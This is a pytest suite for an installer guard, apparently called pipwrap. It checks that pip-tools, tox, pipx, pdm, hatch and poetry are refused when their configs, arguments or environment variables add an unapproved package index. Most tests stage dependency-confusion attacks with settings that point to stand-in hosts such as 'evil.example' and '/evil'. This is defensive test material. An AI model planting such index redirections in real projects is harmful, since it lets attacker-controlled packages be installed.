"""Installers besides pip and uv: their own settings, staged as attacks where practical.

pip-tools and tox run for real (installed once into a cached venv); pipx, pdm, hatch and
poetry are held to their refusal at the guard, which is where wrap stops them.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest

from pipwrap.errors import RefusedError
from pipwrap.guard.api import check
from tests.support.pips import CACHE, clean_env
from tests.support.sandbox import Indexes, Sandbox, installed, write_file

INDEX = "http://127.0.0.1:9/simple/"
ENV = {"PATH": "/usr/bin:/bin"}
TOOLS = ("pip-tools==7.5.2", "tox==4.32.0")


@pytest.fixture(scope="session")
def tools_bin() -> Path:
    venv = CACHE / "tools"
    marker = venv / ".ready"
    if not marker.exists() or marker.read_text() != " ".join(TOOLS):
        subprocess.run([sys.executable, "-m", "venv", "--clear", str(venv)], check=True)
        subprocess.run([str(venv / "bin/python"), "-m", "pip", "install", "-q", *TOOLS],
                       check=True, env=clean_env())
        marker.write_text(" ".join(TOOLS))
    return venv / "bin"


def _refused(argv: list[str], cwd: Path | None = None) -> str:
    with pytest.raises(RefusedError) as caught:
        check(argv, ENV, index_url=INDEX, cwd=str(cwd) if cwd else None)
    return str(caught.value)


def test_pip_compile_with_a_pip_tools_source(sandbox: Sandbox, indexes: Indexes,
                                            tools_bin: Path) -> None:
    project = sandbox.home / "proj"
    write_file(project / "pyproject.toml",
               f'[tool.pip-tools]\nextra-index-url = ["{indexes.upstream.url}"]\n')
    write_file(project / "requirements.in", "foo\n")
    script = (f"cd {project}\nexport PATH={tools_bin}:$PATH\n"
              f"PIP_INDEX_URL={indexes.local.url} pip-compile -q -o bare.txt requirements.in\n"
              "wrap pip-compile -q -o wrapped.txt requirements.in\necho status=$?\n")
    done = sandbox.sh("bash", script)
    assert "foo==9.9.9" in (project / "bare.txt").read_text(), done.stderr
    assert done.stdout.strip().splitlines()[-1] == "status=3", done.stderr
    assert "pyproject.toml:2" in done.stderr
    assert not (project / "wrapped.txt").exists()


def test_pip_compile_under_wrap_writes_no_credential(sandbox: Sandbox, indexes: Indexes,
                                                    tools_bin: Path) -> None:
    """The login travels in the netrc, so pip-compile has no secret to write."""
    sandbox.write_config(
        f'default = "corp"\n[profiles.corp]\nindex-url = "{indexes.local.url}"\n'
        'username = "alice"\npassword-env = "CORP_TOKEN"\n')
    project = sandbox.home / "proj"
    write_file(project / "requirements.in", "foo\n")
    script = (f"cd {project}\nexport PATH={tools_bin}:$PATH\n"
              "wrap pip-compile -q --emit-index-url -o out.txt requirements.in\n")
    done = sandbox.sh("bash", script, CORP_TOKEN="t0p-s3cret")
    text = (project / "out.txt").read_text()
    assert "foo==1.0" in text, done.stderr
    assert "t0p-s3cret" not in text


def test_pipx_pip_args_and_index(tmp_path: Path) -> None:
    assert "--extra-index-url" in _refused(
        ["pipx", "install", "--pip-args=--extra-index-url http://evil/", "foo"])
    _refused(["pipx", "install", "--index-url", "http://evil/", "foo"])
    _refused(["pipx", "install", "--ind", "http://evil/", "foo"])  # argparse prefix
    _refused(["pipx", "install", "git+https://evil.example/foo"])
    check(["pipx", "install", "--pip-args=--pre", "foo"], ENV, index_url=INDEX)


def test_pdm_sources_in_project_and_config(tmp_path: Path) -> None:
    write_file(tmp_path / "pyproject.toml",
               '[project]\nname = "x"\nversion = "0"\n\n[[tool.pdm.source]]\nname = "up"\n'
               'url = "https://upstream.example/simple/"\n')
    assert "pyproject.toml:7" in _refused(["pdm", "install"], tmp_path)
    write_file(tmp_path / "pyproject.toml", '[project]\nname = "x"\nversion = "0"\n')
    write_file(tmp_path / "pdm.toml", '[pypi.extra]\nurl = "https://upstream.example/simple/"\n')
    assert "pdm.toml:2" in _refused(["pdm", "sync"], tmp_path)


def test_hatch_env_vars(tmp_path: Path) -> None:
    write_file(tmp_path / "pyproject.toml",
               '[project]\nname = "x"\nversion = "0"\n\n[tool.hatch.envs.default.env-vars]\n'
               'PIP_EXTRA_INDEX_URL = "https://upstream.example/simple/"\n')
    assert "pyproject.toml:6" in _refused(["hatch", "run", "true"], tmp_path)


def test_poetry_fetching_commands_are_refused_with_the_way_out() -> None:
    message = _refused(["poetry", "install"])
    assert "poetry source add --priority=primary" in message
    check(["poetry", "--version"], ENV, index_url=INDEX)


@pytest.mark.parametrize(("sources", "accepted"), [
    ('[[tool.poetry.source]]\nname = "mine"\nurl = "INDEX"\npriority = "primary"\n', True),
    ('[[tool.poetry.source]]\nname = "mine"\nurl = "INDEX"\n', True),  # primary by default
    ('[[tool.poetry.source]]\nname = "mine"\nurl = "INDEX"\npriority = "supplemental"\n',
     False),  # not primary: poetry would still use PyPI
    ('[[tool.poetry.source]]\nname = "mine"\nurl = "INDEX"\n\n[[tool.poetry.source]]\n'
     'name = "up"\nurl = "https://upstream.example/simple/"\npriority = "supplemental"\n',
     False),  # a second source that is not the profile's
    ("", False),  # no source: PyPI
])
def test_poetry_with_only_the_profiles_index_as_its_source_is_accepted(
        tmp_path: Path, sources: str, accepted: bool) -> None:
    write_file(tmp_path / "pyproject.toml", '[project]\nname = "x"\nversion = "0"\n\n'
               + sources.replace("INDEX", INDEX))
    if accepted:
        check(["poetry", "add", "foo"], ENV, index_url=INDEX, cwd=str(tmp_path))
        # Another project directory is not read: refused.
        assert "poetry add" in _refused(["poetry", "-C", "/elsewhere", "add", "foo"], tmp_path)
    else:
        assert "poetry source add --priority=primary" in _refused(["poetry", "add", "foo"],
                                                                   tmp_path)


@pytest.mark.parametrize("lock", ["pylock.toml", "uv.lock", "pdm.lock"])
def test_lock_files_must_download_from_the_profiles_index(tmp_path: Path, lock: str) -> None:
    from pipwrap.guard import lockfiles
    from pipwrap.guard.context import Context

    good = "http://127.0.0.1:9/packages/foo-1.0-py3-none-any.whl"
    bad = "https://files.example/foo-9.9.9-py3-none-any.whl"
    for url, ok in ((good, True), (bad, False)):
        write_file(tmp_path / lock, f'[[package]]\nname = "foo"\nversion = "1"\n'
                   f'wheels = [{{ url = "{url}" }}]\n')
        ctx = Context(ENV, str(tmp_path), INDEX)
        if ok:
            lockfiles.check_lockfile(str(tmp_path / lock), ctx, "test")
        else:
            with pytest.raises(RefusedError, match=rf"{re.escape(lock)}:4"):
                lockfiles.check_lockfile(str(tmp_path / lock), ctx, "test")


def test_wrap_uv_pip_install_from_a_pylock(sandbox: Sandbox, indexes: Indexes,
                                          venv: Path) -> None:
    """uv installs straight from the lock's URLs: one pointing upstream is refused."""
    import hashlib

    wheel = "foo-9.9.9-py3-none-any.whl"
    url = indexes.upstream.url.replace("/simple/", "/packages/") + wheel
    digest = hashlib.sha256((indexes.upstream.root / wheel).read_bytes()).hexdigest()
    write_file(sandbox.home / "pylock.toml", (
        'lock-version = "1.0"\ncreated-by = "test"\n\n[[packages]]\nname = "foo"\n'
        f'version = "9.9.9"\n\n[[packages.wheels]]\nurl = "{url}"\n'
        f'hashes = {{ sha256 = "{digest}" }}\n'))
    bare, wrapped = sandbox.home / "bare", sandbox.home / "wrapped"
    python = venv / "bin/python"
    script = (f"cd ~\nuv pip install -q --python {python} --target {bare} -r pylock.toml\n"
              f"wrap uv pip install -q --python {python} --target {wrapped} -r pylock.toml\n"
              "echo status=$?\n")
    done = sandbox.sh("bash", script)
    if installed(bare) != ("evil", "9.9.9"):
        pytest.fail(f"the staged lock did not install:\n{done.stderr}")
    assert done.stdout.strip().splitlines()[-1] == "status=3", done.stderr
    assert not wrapped.exists()


# Files the tools read by default (found while making `pipwrap doctor` use the guard):
# tox looks upward from the working directory for its configuration, pip-compile and
# pip-sync read a default input when given none. The guard must read the same file.

def _doctor(sandbox: Sandbox, cwd: Path) -> str:
    done = subprocess.run([sys.executable, "-m", "pipwrap", "doctor"], env=sandbox.env,
                          cwd=cwd, capture_output=True, text=True, timeout=120, check=False)
    return done.stdout + done.stderr


def _tox_ini(settings: str) -> str:
    """A tox.ini whose one environment installs foo and prints where it came from."""
    return ("[tox]\nskip_missing_interpreters = false\nno_package = true\n\n[testenv]\n"
            f"{settings}deps = foo\n"
            "commands = python -c \"import foo; print('ORIGIN', foo.ORIGIN)\"\n")


@pytest.mark.parametrize(("variable", "where"), [
    ("PIP_EXTRA_INDEX_URL", "."),
    # tox looks upward for tox.ini: from a subdirectory it reads the same file
    ("PIP_EXTRA_INDEX_URL", "src/pkg"),
    ("PIP_INDEX_URL", "src/pkg"),
])
def test_tox_set_env_putting_a_source_back(sandbox: Sandbox, indexes: Indexes,
                                          tools_bin: Path, variable: str, where: str) -> None:
    project = sandbox.home / "proj"
    config = write_file(project / "tox.ini", _tox_ini(
        f"set_env =\n    {variable} = {indexes.upstream.url}\n"))
    inside = project / where
    inside.mkdir(parents=True, exist_ok=True)
    script = (f"cd {inside}\nexport PATH={tools_bin}:$PATH\n"
              f"PIP_INDEX_URL={indexes.local.url} tox -q 2>&1 | grep ORIGIN\n"
              "wrap tox -q\necho status=$?\n")
    done = sandbox.sh("bash", script, PIP_DISABLE_PIP_VERSION_CHECK="1")
    assert "ORIGIN evil" in done.stdout, done.stdout + done.stderr
    assert done.stdout.strip().splitlines()[-1] == "status=3", done.stderr
    assert f"{config}:7" in done.stderr and variable in done.stderr
    # doctor's verdict is the guard's: it names the file tox would read.
    report = _doctor(sandbox, inside)
    assert f"{config}:7" in report and "wrap tox" in report, report


@pytest.mark.parametrize("variable", ["PIP_EXTRA_INDEX_URL", "NO_PROXY"])
def test_a_tox_set_env_refusal_reads_as_one_sentence(sandbox: Sandbox, variable: str) -> None:
    """The refusal names the line and says what it does and why that is refused."""
    project = sandbox.home / "proj"
    config = write_file(project / "tox.ini", _tox_ini(f"set_env =\n    {variable} = x\n"))
    fake = write_file(sandbox.home / "bin" / "tox", "#!/bin/sh\necho RAN\n")
    fake.chmod(0o755)
    done = sandbox.sh("bash", f"cd {project}\nexport PATH={fake.parent}:$PATH\n"
                              "wrap tox -q\necho status=$?\n")
    assert done.stdout.strip().splitlines() == ["status=3"], done.stdout + done.stderr
    assert f"refused: {config}:7: sets {variable} for the environments it builds" in done.stderr
    assert ", which puts a source back for tox's environments." in done.stderr, done.stderr


def test_tox_override_putting_a_source_back(sandbox: Sandbox, indexes: Indexes,
                                           tools_bin: Path) -> None:
    """`tox -x testenv.set_env+=...` (and TOX_OVERRIDE) edits the configuration tox reads."""
    project = sandbox.home / "proj"
    write_file(project / "tox.ini", _tox_ini(""))
    override = f"testenv.set_env=PIP_EXTRA_INDEX_URL={indexes.upstream.url}"
    script = (f"cd {project}\nexport PATH={tools_bin}:$PATH\n"
              f"PIP_INDEX_URL={indexes.local.url} tox -q -x {override} 2>&1 | grep ORIGIN\n"
              f"wrap tox -qr -x {override}\necho status=$?\n"
              f"TOX_OVERRIDE={override} wrap tox -qr\necho status=$?\n")
    done = sandbox.sh("bash", script, PIP_DISABLE_PIP_VERSION_CHECK="1")
    assert done.stdout.count("ORIGIN evil") == 1, done.stdout + done.stderr
    assert done.stdout.strip().splitlines()[-2:] == ["status=3"] * 2, done.stdout + done.stderr
    assert "tox -x" in done.stderr and "TOX_OVERRIDE" in done.stderr


@pytest.mark.parametrize(("files", "argv", "named"), [
    # tox keeps walking past a pyproject.toml that holds no tox configuration
    ({"tox.ini": "SET", "sub/pyproject.toml": '[project]\nname = "x"\nversion = "0"\n'},
     ["tox"], "tox.ini:3"),
    ({"tox.toml": "TOML"}, ["tox", "run"], "tox.toml:2"),
    ({"pyproject.toml": "[tool.tox]\nTOML"}, ["tox"], "pyproject.toml:3"),
    ({"pyproject.toml": '[tool.tox]\nlegacy_tox_ini = """\nSET"""\n'}, ["tox"],
     "pyproject.toml:5"),
    ({"setup.cfg": "[tox:tox]\nenv_list = py\n[testenv]\nset_env =\n  PIP_FIND_LINKS = /evil\n"},
     ["tox"], "setup.cfg:5"),
    # an explicit configuration: -c/--conf (a file or a directory), argparse's forms
    ({"other/x.ini": "SET"}, ["tox", "-c", "../../other/x.ini"], "x.ini:3"),
    ({"other/x.ini": "SET"}, ["tox", "--conf=../../other/x.ini"], "x.ini:3"),
    ({"other/x.ini": "SET"}, ["tox", "--con", "../../other/x.ini"], "x.ini:3"),
    ({"other/x.ini": "SET"}, ["tox", "run", "-qc../../other/x.ini"], "x.ini:3"),
    ({"other/tox.ini": "SET"}, ["tox", "-e", "py", "-c", "../../other"], "tox.ini:3"),
])
def test_tox_reads_the_configuration_tox_would(tmp_path: Path, files: dict[str, str],
                                                argv: list[str], named: str) -> None:
    setting = "[testenv]\nset_env =\n  PIP_EXTRA_INDEX_URL = https://up.example/simple/\n"
    toml = '[env_run_base]\nset_env = { PIP_EXTRA_INDEX_URL = "https://up.example/simple/" }\n'
    for name, text in files.items():
        write_file(tmp_path / name, text.replace("SET", setting).replace("TOML", toml))
    cwd = tmp_path / "sub" / "deeper"
    cwd.mkdir(parents=True)
    assert named in _refused(argv, cwd)


def test_tox_config_from_its_environment_variable_and_only_the_nearest(tmp_path: Path) -> None:
    setting = "[testenv]\nset_env =\n  PIP_EXTRA_INDEX_URL = https://up.example/simple/\n"
    write_file(tmp_path / "elsewhere" / "tox.ini", setting)
    with pytest.raises(RefusedError, match=r"tox\.ini:3"):
        check(["tox"], {**ENV, "TOX_CONFIG_FILE": str(tmp_path / "elsewhere" / "tox.ini")},
              index_url=INDEX, cwd=str(tmp_path))
    # The nearest configuration wins: tox never reads the one above it.
    write_file(tmp_path / "tox.ini", setting)
    write_file(tmp_path / "sub" / "tox.ini", "[testenv]\ndeps = foo\n")
    check(["tox"], ENV, index_url=INDEX, cwd=str(tmp_path / "sub"))


def test_pip_compile_without_arguments_reads_requirements_in(
        sandbox: Sandbox, indexes: Indexes, tools_bin: Path) -> None:
    project = sandbox.home / "proj"
    write_file(project / "requirements.in", f"--extra-index-url {indexes.upstream.url}\nfoo\n")
    script = (f"cd {project}\nexport PATH={tools_bin}:$PATH\n"
              f"PIP_INDEX_URL={indexes.local.url} pip-compile -q\n"
              "mv requirements.txt bare.txt\n"
              "wrap pip-compile -q\necho status=$?\n")
    done = sandbox.sh("bash", script)
    assert "foo==9.9.9" in (project / "bare.txt").read_text(), done.stderr
    assert done.stdout.strip().splitlines()[-1] == "status=3", done.stderr
    assert "requirements.in:1" in done.stderr and "--extra-index-url" in done.stderr
    assert not (project / "requirements.txt").exists()
    report = _doctor(sandbox, project)
    assert "requirements.in:1" in report and "wrap pip-compile" in report, report


def test_pip_sync_without_arguments_reads_requirements_txt(
        sandbox: Sandbox, indexes: Indexes, tools_bin: Path) -> None:
    project = sandbox.home / "proj"
    write_file(project / "requirements.txt", f"--extra-index-url {indexes.upstream.url}\nfoo\n")
    target = sandbox.home / "env"
    subprocess.run([sys.executable, "-m", "venv", str(target)], check=True, timeout=120)
    show = f"{target}/bin/python -c \"import foo; print('ORIGIN', foo.ORIGIN)\""
    script = (f"cd {project}\nexport PATH={tools_bin}:$PATH\n"
              f"PIP_INDEX_URL={indexes.local.url} pip-sync -q --python-executable "
              f"{target}/bin/python\n{show}\n{target}/bin/python -m pip uninstall -q -y foo\n"
              f"wrap pip-sync -q --python-executable {target}/bin/python\necho status=$?\n"
              f"{show}\n")
    done = sandbox.sh("bash", script, PIP_DISABLE_PIP_VERSION_CHECK="1")
    lines = done.stdout.strip().splitlines()
    assert lines[0] == "ORIGIN evil", done.stdout + done.stderr
    assert "status=3" in lines, done.stdout + done.stderr
    assert "ORIGIN" not in "".join(lines[1:]), done.stdout
    assert "requirements.txt:1" in done.stderr


@pytest.mark.parametrize(("files", "argv", "named"), [
    # pip-compile's defaults in order: requirements.in, setup.py, pyproject.toml, setup.cfg
    ({"requirements.in": "-i https://up.example/simple/\nfoo\n"}, ["pip-compile"],
     "requirements.in:1"),
    ({"requirements.in": "-f https://up.example/\n", "pyproject.toml": ""},
     ["pip-compile", "--dry-run", "-o", "out.txt"], "requirements.in:1"),
    # pip-tools' configuration may name the inputs (src-files), in either of its files
    ({"pyproject.toml": '[tool.pip-tools]\nsrc-files = ["deps/dev.in"]\n',
      "deps/dev.in": "foo\n--extra-index-url https://up.example/simple/\n"},
     ["pip-compile", "-o", "out.txt"], "dev.in:2"),
    ({".pip-tools.toml": '[tool.pip-tools.compile]\nsrc_files = ["dev.in"]\n',
      "dev.in": "--extra-index-url https://up.example/simple/\n"},
     ["pip-compile", "-o", "out.txt"], "dev.in:1"),
    ({".pip-tools.toml": '[tool.pip-tools]\nextra-index-url = ["https://up.example/simple/"]\n',
      "requirements.in": "foo\n"}, ["pip-compile"], ".pip-tools.toml:2"),
    ({"cfg.toml": '[tool.pip-tools]\nextra-index-url = ["https://up.example/simple/"]\n',
      "requirements.in": "foo\n"}, ["pip-compile", "--config", "cfg.toml"], "cfg.toml:2"),
    # the config file is read whatever the inputs: pip-tools looks for it in the working
    # directory before it reads them
    ({".pip-tools.toml": '[tool.pip-tools]\nfind-links = ["https://up.example/"]\n',
      "deps/dev.in": "foo\n"}, ["pip-sync", "deps/dev.in"], ".pip-tools.toml:2"),
    ({"cfg.toml": '[tool.pip-tools]\nextra-index-url = ["https://up.example/simple/"]\n',
      "dev.in": "foo\n"}, ["pip-compile", "--config=cfg.toml", "dev.in"], "cfg.toml:2"),
    ({"requirements.txt": "--find-links /evil\nfoo==1\n"}, ["pip-sync"], "requirements.txt:1"),
    ({"requirements.txt": "--find-links /evil\nfoo==1\n"}, ["pip-sync", "-n"],
     "requirements.txt:1"),
])
def test_pip_tools_default_inputs_and_config(tmp_path: Path, files: dict[str, str],
                                            argv: list[str], named: str) -> None:
    for name, text in files.items():
        write_file(tmp_path / name, text)
    assert named in _refused(argv, tmp_path)


def test_pip_tools_defaults_only_when_no_input_is_given(tmp_path: Path) -> None:
    write_file(tmp_path / "requirements.in", "--extra-index-url https://up.example/simple/\n")
    write_file(tmp_path / "requirements.txt", "--extra-index-url https://up.example/simple/\n")
    write_file(tmp_path / "mine.in", "foo\n")
    write_file(tmp_path / "mine.txt", "foo==1\n")
    check(["pip-compile", "mine.in"], ENV, index_url=INDEX, cwd=str(tmp_path))
    check(["pip-sync", "mine.txt"], ENV, index_url=INDEX, cwd=str(tmp_path))
    # setup.py comes before pyproject.toml and requirements.in is absent: nothing to read.
    (tmp_path / "requirements.in").unlink()
    write_file(tmp_path / "setup.py", "")
    check(["pip-compile", "-o", "out.txt"], ENV, index_url=INDEX, cwd=str(tmp_path))
